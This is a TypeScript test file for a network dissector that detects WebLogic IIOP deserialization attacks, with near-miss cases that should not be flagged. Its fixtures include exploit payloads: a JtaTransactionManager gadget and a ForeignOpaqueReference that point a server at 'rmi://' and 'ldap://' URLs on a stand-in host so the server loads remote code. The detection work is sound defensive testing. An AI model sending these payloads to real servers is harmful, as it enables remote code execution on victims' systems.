import assert from 'node:assert/strict'
import { test } from 'node:test'
import { giopRequest } from '../../../test/giop.ts'
import { rowsOfTalk, type Said } from '../../../test/wire.ts'
import { dissectors } from './index.ts'

const found = (said: readonly Said[]) => rowsOfTalk(dissectors, said, { serverPort: 7001 }).exploits ?? []
const wide = (text: string): string => [...text].map(c => `\0${c}`).join('')
const manager = 'RMI:com.bea.core.repackaged.springframework.transaction.jta.JtaTransactionManager:4EF3E55D9F0A6F21'
const attack = `\x7f\xff\xff\x02${manager}\0\0\0\x40${wide('rmi://198.51.100.9:1099/exp')}`

test('an object whose class fetches a name when it is read, whole, in fragments and in single bytes; where it leads', () => {
  const [row] = found([[0, giopRequest('rebind_any', attack)]])
  assert.deepEqual([row?.patch, row?.target, row?.calls], ['weblogic-iiop-gadget', 'rebind_any', ['198.51.100.9:1099']])
  const parts: Said[] = [
    [0, giopRequest('bind_any', 'x'.repeat(9000))],
    [0, giopRequest('', attack, { kind: 7 })],
  ]
  assert.deepEqual(
    found(parts).map(({ patch, target }) => [patch, target]),
    [['weblogic-iiop-gadget', 'bind_any']],
  )
  const bytes = [...giopRequest('rebind_any', attack)].map((b): Said => [0, Uint8Array.of(b)])
  assert.equal(found([[0, giopRequest('_is_a', 'x')], ...bytes]).length, 1)
  const opaque = giopRequest('rebind_any', `RMI:weblogic.jndi.internal.ForeignOpaqueReference:D23:1\0${wide('ldap://198.51.100.9/a')}`)
  assert.deepEqual(
    found([[0, opaque]]).map(({ patch }) => patch),
    ['weblogic-iiop-remote-reference'],
  )
})

test('near miss: a client of EJB binds what is its own, another protocol', () => {
  assert.deepEqual(
    found([
      [0, giopRequest('rebind_any', 'RMI:com.example.shop.Order:1:2')],
      [0, giopRequest('resolve_any', 'java:comp/env')],
    ]),
    [],
  )
  assert.deepEqual(found([[0, `GIOP is not it ${attack}`]]), [])
})
